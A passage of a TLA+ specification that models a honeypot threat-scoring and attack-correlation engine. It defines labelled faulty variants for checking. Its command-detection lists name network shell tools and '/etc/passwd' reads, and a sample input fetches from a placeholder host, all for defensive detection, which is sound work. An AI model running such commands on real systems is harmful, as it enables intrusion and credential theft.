ScoreConnectionTypes == {"", "smb"}
ScoreAlerts == {"", "ET SCAN Port Scan"}

ScoreTexts ==
    ScoreEventIds \X ScoreInputs \X ScoreConnectionTypes \X ScoreAlerts

TextMemo ==
    [t \in ScoreTexts |->
        [attack_type |-> TextAttackType(t[1], t[2], t[3], t[4]),
         sophistication |-> TextSophistication(t[2]),
         success |-> TextSuccess(t[1])]] @@ << >>

TextsOf(event) ==
    <<event.eventid, event.input, event.connection_type, event.alert_msg>>

TextFacts(event) ==
    IF TextsOf(event) \in DOMAIN TextMemo THEN TextMemo[TextsOf(event)]
    ELSE [attack_type |-> TextAttackType(event.eventid, event.input,
                                         event.connection_type, event.alert_msg),
          sophistication |-> TextSophistication(event.input),
          success |-> TextSuccess(event.eventid)]

(***************************************************************************)
(* ThreatScoringEngine: the sub-scores                                     *)
(***************************************************************************)
identify_attack_type(event) == TextFacts(event).attack_type

\* ATTACK_TYPE_SCORES.get(attack_type, 10)
AttackTypeScore(attack_type) == Lookup(ATTACK_TYPE_SCORES, attack_type, 10)

\* (faulty variant) the cap of 30 is not applied
assess_sophistication_uncapped(event) ==
      TextFacts(event).sophistication
    + (IF event.mitre_techniques > 3 THEN 15 ELSE 0)

assess_sophistication(event) ==
    Min(30, TextFacts(event).sophistication
            + (IF event.mitre_techniques > 3 THEN 15 ELSE 0))

\* (faulty variant) only a priority-1 alert counts as a success
is_successful_attack_by_priority(event) == event.priority = 1

is_successful_attack(event) ==
    TextFacts(event).success \/ event.priority = 1

assess_ip_reputation(event) ==
    Min(25, (IF event.in_blocklist THEN 20 ELSE 0)
            + (IF event.abuse_confidence_score > 75 THEN 15
               ELSE IF event.abuse_confidence_score > 50 THEN 10
               ELSE IF event.abuse_confidence_score > 25 THEN 5
               ELSE 0)
            + (IF event.is_bot THEN 10 ELSE 0))

\* HIGH_RISK_COUNTRIES[country_code] when the code is in the table, else 0
GeoRiskScore(event) == Lookup(HIGH_RISK_COUNTRIES, event.country_code, 0)

assess_temporal_patterns(event) ==
    Min(20, (IF event.attack_speed = "rapid" THEN 10 ELSE 0)
            + (IF event.is_persistent THEN 15 ELSE 0)
            + (IF event.at_hour # NoHour /\ 0 <= event.at_hour /\ event.at_hour < 6
               THEN 5 ELSE 0))

\* (faulty variant) thresholds one lower: 25, 50 and 75 already reach the next label
score_to_severity_shifted(score) ==
    IF score >= 75 THEN "critical"
    ELSE IF score >= 50 THEN "high"
    ELSE IF score >= 25 THEN "medium"
    ELSE "low"

score_to_severity(score) ==
    IF score >= 76 THEN "critical"
    ELSE IF score >= 51 THEN "high"
    ELSE IF score >= 26 THEN "medium"
    ELSE "low"

generate_recommendations(score, attack_type) ==
    (IF score >= 76 THEN
         <<"IMMEDIATE ACTION REQUIRED", "Block source IP at firewall",
           "Initiate incident response procedure",
           "Preserve logs and artifacts for forensics",
           "Notify security team and management">>
     ELSE IF score >= 51 THEN
         <<"Block source IP", "Monitor for related activity",
           "Update IDS signatures", "Review and patch targeted services">>
     ELSE IF score >= 26 THEN
         <<"Add to watchlist", "Monitor for escalation",
           "Review authentication logs">>
     ELSE <<"Log for intelligence", "No immediate action required">>)
    \o (IF attack_type \in {"malware_download", "malware_execution"}
        THEN <<"Submit malware sample to VirusTotal", "Update antivirus signatures">>
        ELSE <<>>)
    \o (IF attack_type \in {"brute_force_success", "credential_theft"}
        THEN <<"Force password reset for affected accounts",
               "Enable MFA if not already active">>
        ELSE <<>>)

(***************************************************************************)
(* ThreatScoringEngine.calculate_score.  success_multiplier is kept in     *)
(* tenths (10 for 1.0, 15 for 1.5), and so is base.                        *)
(***************************************************************************)
\* score_breakdown before final_score is stored; base_score keeps its initial 0
Breakdown(event) ==
    [base_score |-> 0,
     attack_type_score |-> AttackTypeScore(identify_attack_type(event)),
     sophistication_score |-> assess_sophistication(event),
     success_multiplier_x10 |-> IF is_successful_attack(event) THEN 15 ELSE 10,
     ip_reputation_score |-> assess_ip_reputation(event),
     geo_risk_score |-> GeoRiskScore(event),
     temporal_score |-> assess_temporal_patterns(event)]

\* base, in tenths
BaseX10(b) == (b.attack_type_score + b.sophistication_score) * b.success_multiplier_x10

Bonus(b) == b.ip_reputation_score + b.geo_risk_score + b.temporal_score

\* (faulty variant) the score is not capped at 100
FinalScoreUncapped(b) == (BaseX10(b) + 10 * Bonus(b)) \div 10

\* (faulty variant) the sum is rounded to the nearest integer instead of truncated
FinalScoreRounded(b) == Min(100, (BaseX10(b) + 10 * Bonus(b) + 5) \div 10)

\* min(100, int(base + bonus)): int() drops the fraction of a value >= 0
FinalScore(b) == Min(100, (BaseX10(b) + 10 * Bonus(b)) \div 10)

calculate_score(event) ==
    LET b == Breakdown(event)
        final_score == FinalScore(b)
        attack_type == identify_attack_type(event)
    IN  [threat_score |-> final_score,
         severity |-> score_to_severity(final_score),
         attack_type |-> attack_type,
         breakdown |-> b @@ [final_score |-> final_score],
         recommendations |-> generate_recommendations(final_score, attack_type)]

(***************************************************************************)
(* The scoring engine's caller: one call of calculate_score on an event    *)
(* drawn from the scored events.                                           *)
(***************************************************************************)
ScoreEvents ==
    [eventid : ScoreEventIds, input : ScoreInputs,
     connection_type : ScoreConnectionTypes, alert_msg : ScoreAlerts,
     mitre_techniques : {0, 4}, priority : {0, 1},
     in_blocklist : BOOLEAN, abuse_confidence_score : {0, 30, 60, 80},
     is_bot : BOOLEAN, country_code : {"", "KP", "BR"},
     attack_speed : {"", "rapid"}, is_persistent : BOOLEAN,
     at_hour : {NoHour, 3}]

NoEvent ==
    [eventid |-> "", input |-> "", connection_type |-> "", alert_msg |-> "",
     mitre_techniques |-> 0, priority |-> 0, in_blocklist |-> FALSE,
     abuse_confidence_score |-> 0, is_bot |-> FALSE, country_code |-> "",
     attack_speed |-> "", is_persistent |-> FALSE, at_hour |-> NoHour]

NoResult == calculate_score(NoEvent)

\* scoring_engine.calculate_score(event)
CalculateScore ==
    /\ sc_pc = "ready"
    /\ sc_result' = calculate_score(sc_event)
    /\ sc_pc' = "done"
    /\ UNCHANGED <<sc_event, mt_vars, co_vars, cd_vars, pr_vars,
                   hs_vars,
                   na_vars, al_vars, mo_vars>>

(***************************************************************************)
(* CorrelationEngine.correlate_by_ip                                       *)
(*                                                                         *)
(* The event store holds, per index, the documents of the queried IP in    *)
(* the queried time range, in the order the query returns them (ascending  *)
(* "@timestamp", the ingestion stamp, which need not follow the event's    *)
(* own "timestamp" field).                                                 *)
(***************************************************************************)
\* the coroutines in the argument order of asyncio.gather
Sources == <<"cowrie", "dionaea", "snort">>

SourceSet == {Sources[i] : i \in 1..Len(Sources)}

SourceIndex(source) == CHOOSE i \in 1..Len(Sources) : Sources[i] = source

\* "size": 1000 of the three per-source queries
PageSize == 1000

\* [hit["_source"] for hit in result["hits"]["hits"]]
QueryHits(docs) == SubSeq(docs, 1, Min(Len(docs), PageSize))

\* first_seen / last_seen when no event carries a timestamp
None == Null

\* [e.get("timestamp") for e in all_events if e.get("timestamp")]
TruthyTimestamps(all_events) ==
    {all_events[i].timestamp : i \in 1..Len(all_events)} \ {Absent, Null}

\* (faulty variant) first_seen is "" when no event carries a timestamp
FirstSeenOrBlank(all_events) ==
    LET timestamps == TruthyTimestamps(all_events)
    IN  IF timestamps = {} THEN Absent
        ELSE CHOOSE t \in timestamps : \A u \in timestamps : t <= u

FirstSeen(all_events) ==
    LET timestamps == TruthyTimestamps(all_events)
    IN  IF timestamps = {} THEN None
        ELSE CHOOSE t \in timestamps : \A u \in timestamps : t <= u

\* (faulty variant) last_seen is the timestamp of the last event that has one
LastSeenInListOrder(all_events) ==
    LET timed == SelectSeq(all_events,
                           LAMBDA e : e.timestamp \notin {Absent, Null})
    IN  IF Len(timed) = 0 THEN None ELSE timed[Len(timed)].timestamp

LastSeen(all_events) ==
    LET timestamps == TruthyTimestamps(all_events)
    IN  IF timestamps = {} THEN None
        ELSE CHOOSE t \in timestamps : \A u \in timestamps : t >= u

\* the set filled from cowrie's protocol and dionaea's connection_type; the
\* order of list(set) is unspecified and left out
TargetedServices(cowrie_events, dionaea_events) ==
    ({cowrie_events[i].protocol : i \in 1..Len(cowrie_events)}
     \cup {dionaea_events[i].connection_type : i \in 1..Len(dionaea_events)})
    \ {""}

C2Commands == <<"wget", "curl", "nc ", "bash -i">>
ObjectiveCommands == <<"cat /etc/passwd", "uname", "whoami">>

\* any(cmd in command for cmd in cmds)
AnyIn(cmds, command) == \E i \in 1..Len(cmds) : Contains(command, cmds[i])

\* what the two command checks find in event.get("input", "").lower()
CommandMarks(input) ==
    [c2 |-> AnyIn(C2Commands, Lower(input)),
     objective |-> AnyIn(ObjectiveCommands, Lower(input))]

\* the command texts of the store's documents
FetchAndLook == "wget http://x/y; whoami"

StoreInputs == {"", FetchAndLook}

MarksMemo == [input \in StoreInputs |-> CommandMarks(input)] @@ << >>

MarksOf(input) ==
    IF input \in DOMAIN MarksMemo THEN MarksMemo[input] ELSE CommandMarks(input)

\* the phases one event marks, in the order its five checks run
PhasesOf(event) ==
    LET is_command == event.eventid = "cowrie.command.input"
    IN  (IF event.eventid = "cowrie.client.version"
         THEN <<"Reconnaissance">> ELSE <<>>)
        \o (IF event.eventid = "cowrie.login.success"
            THEN <<"Exploitation">> ELSE <<>>)
        \o (IF event.eventid \in {"cowrie.session.file_download", "dionaea.download"}
            THEN <<"Installation">> ELSE <<>>)
        \o (IF is_command /\ MarksOf(event.input).c2
            THEN <<"Command & Control">> ELSE <<>>)
        \o (IF is_command /\ MarksOf(event.input).objective
            THEN <<"Actions on Objectives">> ELSE <<>>)

\* (faulty variant) the phase is appended without the "not in phases" test
AddPhaseAlways(phases, phase) == Append(phases, phase)

\* if phase not in phases: phases.append(phase)
AddPhase(phases, phase) ==
    IF InSeq(phase, phases) THEN phases ELSE Append(phases, phase)

RECURSIVE AddPhases(_, _, _)
AddPhases(phases, marked, k) ==
    IF k > Len(marked) THEN phases
    ELSE AddPhases(AddPhase(phases, marked[k]), marked, k + 1)

RECURSIVE PhaseLoop(_, _, _)
PhaseLoop(phases, sorted_events, i) ==
    IF i > Len(sorted_events) THEN phases
    ELSE PhaseLoop(AddPhases(phases, PhasesOf(sorted_events[i]), 1),
                   sorted_events, i + 1)

\* _reconstruct_attack_phases(events): raised is the TypeError of sorted()
reconstruct_attack_phases(events) ==
    IF SortRaises(events) THEN [raised |-> TRUE, phases |-> <<>>]
    ELSE [raised |-> FALSE,
          phases |-> PhaseLoop(<<>>, SortedByTimestamp(events), 1)]

\* (faulty variant) each result is handed back in the order the queries completed
gather_as_completed(results, order) ==
    [i \in 1..Len(Sources) |-> results[order[i]]]

\* asyncio.gather: the results in the order of its arguments
gather(results, order) ==
    [i \in 1..Len(Sources) |-> results[Sources[i]]]

\* the correlation dict, lines 70-115
Correlation(cowrie_events, dionaea_events, snort_events) ==
    LET all_events == cowrie_events \o dionaea_events \o snort_events
    IN  [summary |->
            [total_events |-> Len(cowrie_events) + Len(dionaea_events)
                              + Len(snort_events),
             cowrie_events |-> Len(cowrie_events),
             dionaea_events |-> Len(dionaea_events),
             snort_alerts |-> Len(snort_events),
             first_seen |-> FirstSeen(all_events),
             last_seen |-> LastSeen(all_events),
             targeted_services |-> TargetedServices(cowrie_events, dionaea_events),
             attack_phases |-> reconstruct_attack_phases(all_events).phases],
         events |->
            [cowrie |-> cowrie_events,
             dionaea |-> dionaea_events,
             snort |-> snort_events]]

NoCorrelation == Correlation(<<>>, <<>>, <<>>)

(***************************************************************************)
(* One call of correlate_by_ip on the event loop.  gather wraps the three  *)
(* coroutines in tasks; the loop runs every ready task up to its first     *)
(* suspension, in creation order, before it polls for I/O, so a search     *)
(* answer is delivered only when no task is left to start.  A search that  *)
(* fails without suspending (no client, no connection) ends its task at    *)
(* once; one that fails or times out later ends it when the answer is due. *)
(* Either way the except branch returns [].                                *)
(***************************************************************************)
MaxEvents == 2

CorrEv(id, inp, proto, conn, alert, ts) ==
    [eventid |-> id, input |-> inp, protocol |-> proto,
     connection_type |-> conn, alert_msg |-> alert, timestamp |-> ts]

CowrieDocs ==
    {CorrEv("cowrie.client.version", "", "ssh", "", "", ts) :
        ts \in {Absent} \cup (1..MaxTime)}
    \cup {CorrEv("cowrie.login.success", "", "ssh", "", "", ts) :
        ts \in {Null} \cup (1..MaxTime)}
    \cup {CorrEv("cowrie.command.input", FetchAndLook, "", "", "", ts) :
        ts \in 1..MaxTime}

DionaeaDocs ==
    {CorrEv("dionaea.download", "", "", "smb", "", ts) :
        ts \in {Null} \cup (1..MaxTime)}

SnortDocs ==
    {CorrEv("", "", "", "", "ET SCAN Port Scan", ts) : ts \in 1..MaxTime}

\* the stores with at most MaxEvents documents of the IP over the indices
Stores ==
    UNION {
        {[cowrie |-> c, dionaea |-> d, snort |-> s] :
            c \in [1..n[1] -> CowrieDocs],
            d \in [1..n[2] -> DionaeaDocs],
            s \in [1..n[3] -> SnortDocs]} :
        n \in {m \in (0..MaxEvents) \X (0..MaxEvents) \X (0..MaxEvents) :
                  m[1] + m[2] + m[3] <= MaxEvents}}

NoStore == [cowrie |-> <<>>, dionaea |-> <<>>, snort |-> <<>>]

NoTasks == [s \in SourceSet |-> "idle"]

NoResults == [s \in SourceSet |-> <<>>]

NoFailures == [s \in SourceSet |-> FALSE]

\* await asyncio.gather(...): the three tasks are created
CorrelateByIp ==
    /\ co_pc = "ready"
    /\ co_pc' = "gathering"
    /\ co_task' = [s \in SourceSet |-> "scheduled"]
    /\ UNCHANGED <<co_store, co_results, co_failed, co_order, co_result,
                   mt_vars, sc_vars, cd_vars, pr_vars,
                   hs_vars,
                   na_vars, al_vars, mo_vars>>

\* tasks start in creation order
CanStart(source) ==
    /\ co_pc = "gathering"
    /\ co_task[source] = "scheduled"
    /\ \A t \in SourceSet :
          SourceIndex(t) < SourceIndex(source) => co_task[t] # "scheduled"

\* the loop polls for I/O once no task is ready to run
CanComplete(source) ==
    /\ co_pc = "gathering"
    /\ co_task[source] = "waiting"
    /\ \A t \in SourceSet : co_task[t] # "scheduled"

\* _query_<source>_by_ip up to `await self.es.search(...)`
StartQuery(source) ==
    /\ CanStart(source)
    /\ \E issued \in BOOLEAN :
          IF issued
          THEN /\ co_task' = [co_task EXCEPT ![source] = "waiting"]
               /\ UNCHANGED <<co_failed, co_order>>
          ELSE /\ co_task' = [co_task EXCEPT ![source] = "done"]
               /\ co_failed' = [co_failed EXCEPT ![source] = TRUE]
               /\ co_order' = Append(co_order, source)
    /\ UNCHANGED <<co_store, co_pc, co_results, co_result,
                   mt_vars, sc_vars, cd_vars, pr_vars,
                   hs_vars,
                   na_vars, al_vars, mo_vars>>

\* _query_<source>_by_ip from the answer of es.search to its return
CompleteQuery(source) ==
    /\ CanComplete(source)
    /\ \E answered \in BOOLEAN :
          /\ co_results' = [co_results EXCEPT ![source] =
                               IF answered THEN QueryHits(co_store[source])
                               ELSE <<>>]
          /\ co_failed' = [co_failed EXCEPT ![source] = ~answered]
    /\ co_task' = [co_task EXCEPT ![source] = "done"]
    /\ co_order' = Append(co_order, source)
    /\ UNCHANGED <<co_store, co_pc, co_result, mt_vars, sc_vars, cd_vars, pr_vars,
                   hs_vars,
                   na_vars, al_vars, mo_vars>>

\* correlate_by_ip from the return of gather to its own return
BuildCorrelation ==
    /\ co_pc = "gathering"
    /\ \A s \in SourceSet : co_task[s] = "done"
    /\ LET got == gather(co_results, co_order)
           all_events == got[1] \o got[2] \o got[3]
       IN  IF reconstruct_attack_phases(all_events).raised
           THEN /\ co_pc' = "raised"
                /\ UNCHANGED co_result
           ELSE /\ co_pc' = "returned"
                /\ co_result' = Correlation(got[1], got[2], got[3])
    /\ UNCHANGED <<co_store, co_task, co_results, co_failed, co_order,
                   mt_vars, sc_vars, cd_vars, pr_vars,
                   hs_vars,
                   na_vars, al_vars, mo_vars>>

(***************************************************************************)
(* CorrelationEngine.detect_coordinated_attacks                            *)
(*                                                                         *)
(* The store is seen through the one thing the query reads: how many       *)
(* distinct src_ip values have a document inside the time window           *)
(* (cd_active) and how many only outside it (cd_stale).                    *)
(***************************************************************************)
MaxIps == 102
MaxStale == 1

\* "terms": {"field": "src_ip.keyword", "size": 100}
AggSize == 100

\* len(ip_buckets) > 5
IpThreshold == 5

\* result["aggregations"]["by_source_ip"]["buckets"]: one bucket per distinct
\* src_ip of the documents in range, the AggSize largest at most
IpBuckets(active, stale) == Min(active, AggSize)

\* the list detect_coordinated_attacks returns for the buckets it got
CoordinatedAttacks(ip_buckets) ==
    IF ip_buckets > IpThreshold
    THEN <<[pattern |-> "multiple_sources",
            confidence |-> "medium",
            ip_count |-> ip_buckets]>>
    ELSE <<>>

\* detect_coordinated_attacks(), the search answered
DetectCoordinatedAttacks ==
    /\ cd_pc = "ready"
    /\ cd_pc' = "returned"
    /\ cd_found' = CoordinatedAttacks(IpBuckets(cd_active, cd_stale))
    /\ UNCHANGED <<cd_active, cd_stale, mt_vars, sc_vars, co_vars,
                   pr_vars, hs_vars,
                   na_vars, al_vars, mo_vars>>

\* detect_coordinated_attacks(), es.search raising: nothing catches it
DetectSearchFails ==
    /\ cd_pc = "ready"
    /\ cd_pc' = "raised"
    /\ UNCHANGED <<cd_active, cd_stale, cd_found, mt_vars, sc_vars, co_vars,
                   pr_vars, hs_vars,
                   na_vars, al_vars, mo_vars>>

(***************************************************************************)
(* CorrelationEngine.build_attacker_profile                                *)
(*                                                                         *)
(* The profile is computed from what correlate_by_ip returns for the last  *)
(* 30 days.  The timestamps of the stores used here are seconds of one     *)
(* hour: t in 1..LastSecond stands for the ISO-8601 string of second t,    *)
(* which datetime.fromisoformat parses; NotIso stands for "n/a", a string  *)
(* it rejects with ValueError.                                             *)
(***************************************************************************)
MaxRun == 12
MaxOther == 3

\* the latest second a timing puts an event at
LastSecond == MaxRun * MaxRun

\* "n/a"
NotIso == LastSecond + 1

\* if total_events > 10
PersistenceThreshold == 10

\* if len(cowrie_events) > 5
AutomationMinEvents == 5

HasTimestamp(event) == event.timestamp \notin {Absent, Null}

\* [e.get("timestamp") for e in cowrie_events if e.get("timestamp")]
TimestampsOf(events) ==
    LET timed == SelectSeq(events, HasTimestamp)
    IN  [i \in 1..Len(timed) |-> timed[i].timestamp]

\* the deltas, in seconds, between consecutive timestamps of the list
Intervals(timestamps) ==
    [i \in 1..(Len(timestamps) - 1) |-> timestamps[i + 1] - timestamps[i]]

RECURSIVE SumSeq(_, _)
SumSeq(s, i) == IF i > Len(s) THEN 0 ELSE s[i] + SumSeq(s, i + 1)

Squares(s) == [i \in 1..Len(s) |-> s[i] * s[i]]

\* (faulty variant) a variance of exactly 1.0 counts as regular
VarianceAtMostOne(intervals) ==
    LET n == Len(intervals)
        total == SumSeq(intervals, 1)
    IN  n * SumSeq(Squares(intervals), 1) - total * total <= n * n

\* sum((x - avg) ** 2 for x in intervals) / len(intervals) < 1.0, with
\* avg = sum(intervals) / len(intervals): multiplied out by len(intervals)^2
VarianceBelowOne(intervals) ==
    LET n == Len(intervals)
        total == SumSeq(intervals, 1)
    IN  n * SumSeq(Squares(intervals), 1) - total * total < n * n

\* (faulty variant) ten events are already persistent
IsPersistentFromThreshold(total_events) == total_events >= PersistenceThreshold

\* if total_events > 10: profile["behavior"]["is_persistent"] = True
IsPersistent(total_events) == total_events > PersistenceThreshold

\* datetime.fromisoformat raises ValueError on a string that is no ISO date
ParseRaises(timestamps) ==
    \E i \in 1..Len(timestamps) : timestamps[i] \notin 1..LastSecond

\* the automation block: what it does with the cowrie events returned
AutomationRaises(cowrie_events) ==
    /\ Len(cowrie_events) > AutomationMinEvents
    /\ Len(TimestampsOf(cowrie_events)) > 1
    /\ ParseRaises(TimestampsOf(cowrie_events))

IsAutomated(cowrie_events) ==
    /\ Len(cowrie_events) > AutomationMinEvents
    /\ Len(TimestampsOf(cowrie_events)) > 1
    /\ VarianceBelowOne(Intervals(TimestampsOf(cowrie_events)))

\* (faulty variant) the elif branch raises the level and forgets the action
ThreatAssessmentLevelOnly(is_persistent, is_automated) ==
    IF is_persistent /\ is_automated
    THEN [threat_level |-> "high", recommended_action |-> "block"]
    ELSE IF is_persistent
         THEN [threat_level |-> "medium", recommended_action |-> "monitor"]
         ELSE [threat_level |-> "low", recommended_action |-> "monitor"]

\* the if / elif on the two flags; the defaults are low and monitor
ThreatAssessment(is_persistent, is_automated) ==
    IF is_persistent /\ is_automated
    THEN [threat_level |-> "high", recommended_action |-> "block"]
    ELSE IF is_persistent
         THEN [threat_level |-> "medium",
               recommended_action |-> "monitor_closely"]
         ELSE [threat_level |-> "low", recommended_action |-> "monitor"]

NoProfile == [raised |-> FALSE, returned |-> FALSE]

\* the profile dict; correlation is what the inner correlate_by_ip returned
ProfileOf(correlation) ==
    LET total_events == correlation.summary.total_events
        cowrie_events == correlation.events.cowrie
        is_persistent == IsPersistent(total_events)
        is_automated == IsAutomated(cowrie_events)
    IN  [raised |-> FALSE,
         returned |-> TRUE,
         intelligence |->
             [is_persistent |-> is_persistent,
              is_automated |-> is_automated,
              sophistication_level |-> "low",
              likely_motive |-> "unknown"],
         behavior |->
             [targeted_services |-> correlation.summary.targeted_services,
              attack_frequency |-> None,
              preferred_tools |-> <<>>,
              evasion_techniques |-> <<>>],
         risk_assessment |-> ThreatAssessment(is_persistent, is_automated)]

\* results are the three responses correlate_by_ip gathered
build_attacker_profile(results) ==
    LET all_events == results.cowrie \o results.dionaea \o results.snort
    IN  IF reconstruct_attack_phases(all_events).raised
        THEN [raised |-> TRUE, returned |-> FALSE]
        ELSE LET correlation == Correlation(results.cowrie, results.dionaea,
                                            results.snort)
             IN  IF AutomationRaises(correlation.events.cowrie)
                 THEN [raised |-> TRUE, returned |-> FALSE]
                 ELSE ProfileOf(correlation)

(***************************************************************************)
(* The stores a profile is built from: a run of failed SSH logins, some    *)
(* of them without a timestamp, with Dionaea connections and Snort alerts  *)
(* of the same address next to it.                                        *)
(***************************************************************************)
Timings == {"steady", "paired", "spreading", "reversed"}

\* the second of the i-th login of a run
\*   steady:    1, 2, 3, ...        one login a second
\*   paired:    1, 1, 3, 3, 5, ...  two logins in the same second, then a gap
\*   spreading: 1, 4, 9, ...        ever longer gaps
\*   reversed:  the clock of the sensor runs backwards
Second(timing, i) ==
    CASE timing = "steady" -> i
      [] timing = "paired" -> 2 * ((i + 1) \div 2) - 1
      [] timing = "spreading" -> i * i
      [] timing = "reversed" -> MaxRun + 1 - i

\* run logins; the first untimed of them carry no timestamp, and with
\* garbled the last one carries "n/a"
CowrieRun(run, timing, untimed, garbled) ==
    [i \in 1..run |->
        CorrEv("cowrie.login.failed", "", "ssh", "", "",
               IF i <= untimed THEN Absent
               ELSE IF garbled /\ i = run THEN NotIso
               ELSE Second(timing, i))]

\* count connections; with nulled the last one has "timestamp": null
DionaeaRun(count, nulled) ==
    [i \in 1..count |->
        CorrEv("", "", "", "smbd", "",
               IF nulled /\ i = count THEN Null ELSE i)]

SnortRun(count) ==
    [i \in 1..count |-> CorrEv("", "", "", "", "ET SCAN nmap", i)]

ProfileStores ==
    {[cowrie |-> CowrieRun(run, timing, untimed, garbled),
      dionaea |-> DionaeaRun(dionaea, nulled),
      snort |-> SnortRun(snort)] :
        run \in 0..MaxRun, timing \in Timings, untimed \in 0..1,
        garbled \in BOOLEAN, dionaea \in 0..MaxOther, nulled \in BOOLEAN,
        snort \in 0..MaxOther}

\* build_attacker_profile(ip): the three queries of correlate_by_ip, each
\* of which may fail and is then answered with [], and the profile
BuildAttackerProfile ==
    /\ pr_pc = "ready"
    /\ \E failed \in SUBSET SourceSet :
          LET results == [s \in SourceSet |->
                             IF s \in failed THEN <<>>
                             ELSE QueryHits(pr_store[s])]
              outcome == build_attacker_profile(results)
          IN  /\ pr_failed' = failed
              /\ pr_pc' = IF outcome.raised THEN "raised" ELSE "returned"
              /\ pr_profile' = outcome
    /\ UNCHANGED <<pr_store, mt_vars, sc_vars, co_vars, cd_vars, hs_vars,
                   na_vars, al_vars, mo_vars>>

(***************************************************************************)
(* The engines in use: one ThreatScoringEngine and one MitreAttackMapper   *)
(* serve the callers' events, one call after another.  The dicts a call    *)
(* fills are kept here between the calls, so that what the next call       *)
(* starts from is a step of the model.                                     *)
(***************************************************************************)
MaxCalls == 3

\* (faulty variant) the dict of the previous call is filled again
BreakdownKept(previous) == previous

\* score_breakdown = {...}: every call starts from a new dict of initial values
NewBreakdown ==
    [base_score |-> 0, attack_type_score |-> 0, sophistication_score |-> 0,
     success_multiplier_x10 |-> 10, ip_reputation_score |-> 0,
     geo_risk_score |-> 0, temporal_score |-> 0]

BreakdownAtEntry(previous) == NewBreakdown

\* steps 1 to 6 of calculate_score: success_multiplier and geo_risk_score
\* are assigned only under their condition
FillBreakdown(score_breakdown, event) ==
    [score_breakdown EXCEPT
        !.attack_type_score = AttackTypeScore(identify_attack_type(event)),
        !.sophistication_score = assess_sophistication(event),
        !.success_multiplier_x10 = IF is_successful_attack(event) THEN 15 ELSE @,
        !.ip_reputation_score = assess_ip_reputation(event),
        !.geo_risk_score =
            IF \E i \in 1..Len(HIGH_RISK_COUNTRIES) :
                  HIGH_RISK_COUNTRIES[i][1] = event.country_code
            THEN GeoRiskScore(event) ELSE @,
        !.temporal_score = assess_temporal_patterns(event)]

\* the dict calculate_score returns, from the filled score_breakdown
ScoreResult(score_breakdown, event) ==
    LET final_score == FinalScore(score_breakdown)
        attack_type == identify_attack_type(event)
    IN  [threat_score |-> final_score,
         severity |-> score_to_severity(final_score),
         attack_type |-> attack_type,
         breakdown |-> score_breakdown @@ [final_score |-> final_score],
         recommendations |-> generate_recommendations(final_score, attack_type)]

\* (faulty variant) the lists of the previous call are appended to
MappedKept(previous) == previous

\* mapped = {"tactics": [], "techniques": [], "technique_details": []}
MappedAtEntry(previous) == EmptyMapping

\* the events the callers send
CalledScoreEvents ==
    {[NoEvent EXCEPT !.eventid = "cowrie.login.failed"],
     [NoEvent EXCEPT !.eventid = "cowrie.login.success", !.country_code = "KP"],
     [NoEvent EXCEPT !.eventid = "cowrie.command.input", !.input = "uname -a",
                     !.country_code = "BR", !.in_blocklist = TRUE]}

CalledMapEvents ==
    {Ev(k[1], k[2], k[3], 1) : k \in {Discovery, Persist, NoMatch}}

\* scoring_engine.calculate_score(event)
ServeCalculateScore ==
    /\ hs_pc = "serving"
    /\ Len(hs_calls) < MaxCalls
    /\ \E event \in CalledScoreEvents :
          LET score_breakdown ==
                  FillBreakdown(BreakdownAtEntry(hs_breakdown), event)
          IN  /\ hs_breakdown' = score_breakdown
              /\ hs_calls' = Append(hs_calls,
                                    [operation |-> "calculate_score",
                                     event |-> event,
                                     result |-> ScoreResult(score_breakdown, event)])
    /\ UNCHANGED <<hs_pc, hs_mapped, mt_vars, sc_vars, co_vars, cd_vars, pr_vars,
                   na_vars, al_vars, mo_vars>>

\* mitre_mapper.map_event(event)
ServeMapEvent ==
    /\ hs_pc = "serving"
    /\ Len(hs_calls) < MaxCalls
    /\ \E event \in CalledMapEvents :
          LET mapped == MapLoop(MappedAtEntry(hs_mapped), 1, CombinedText(event))
          IN  /\ hs_mapped' = mapped
              /\ hs_calls' = Append(hs_calls,
                                    [operation |-> "map_event",
                                     event |-> event,
                                     result |-> mapped])
    /\ UNCHANGED <<hs_pc, hs_breakdown, mt_vars, sc_vars, co_vars, cd_vars, pr_vars,
                   na_vars, al_vars, mo_vars>>

(***************************************************************************)
(* MitreAttackMapper.generate_attack_narrative                             *)
(***************************************************************************)
MaxSteps == 3

NoActivity == "No significant attack activity detected."

RECURSIVE JoinLines(_, _)
\* "\n".join(parts), from part i on
JoinLines(parts, i) ==
    IF i > Len(parts) THEN ""
    ELSE IF i = Len(parts) THEN parts[i]
    ELSE parts[i] \o "\n" \o JoinLines(parts, i + 1)

\* (faulty variant) enumerate(chain) without its start: the steps count from 0
StepNumberFromZero(i) == i - 1

\* enumerate(chain, 1): the number of the i-th step
StepNumber(i) == i

\* step['evidence'][:100]
EvidenceShown(evidence) == SubSeq(evidence, 1, Min(Len(evidence), 100))

\* what the loop appends for the i-th step; an evidence of "" or None is falsy
StepParts(i, step) ==
    <<ToString(StepNumber(i)) \o ". " \o step.tactic \o " via " \o step.technique
      \o " (" \o step.technique_id \o ")">>
    \o (IF step.evidence # ""
        THEN <<"   Evidence: " \o EvidenceShown(step.evidence)>>
        ELSE <<>>)

RECURSIVE NarrativeParts(_, _)
NarrativeParts(chain, i) ==
    IF i > Len(chain) THEN <<>>
    ELSE StepParts(i, chain[i]) \o NarrativeParts(chain, i + 1)

generate_attack_narrative(chain) ==
    IF Len(chain) = 0 THEN NoActivity
    ELSE JoinLines(<<"Attack progression:\n">> \o NarrativeParts(chain, 1), 1)

\* a command of 125 characters
LongCommand ==
    "echo 0123456789012345678901234567890123456789"
    \o "0123456789012345678901234567890123456789"
    \o "0123456789012345678901234567890123456789"

\* steps as get_attack_chain builds them: a login without evidence and a
\* discovery command, short or longer than the 100 characters shown
NarrativeSteps ==
    {[tactic |-> TacticName("TA0001"), tactic_id |-> "TA0001",
      technique |-> "Valid Accounts", technique_id |-> "T1078",
      timestamp |-> 1, evidence |-> ""]}
    \cup {[tactic |-> TacticName("TA0007"), tactic_id |-> "TA0007",
           technique |-> "System Information Discovery", technique_id |-> "T1082",
           timestamp |-> 1, evidence |-> e] :
             e \in {"uname -a; whoami", "7. id", LongCommand}}

\* mapper.generate_attack_narrative(chain)
GenerateAttackNarrative ==
    /\ na_pc = "ready"
    /\ na_narrative' = generate_attack_narrative(na_chain)
    /\ na_pc' = "returned"
    /\ UNCHANGED <<na_chain, mt_vars, sc_vars, co_vars, cd_vars, pr_vars, hs_vars,
                   al_vars, mo_vars>>

(***************************************************************************)
(* alerting.AlertManager.  Time is what datetime.utcnow() reads, counted   *)
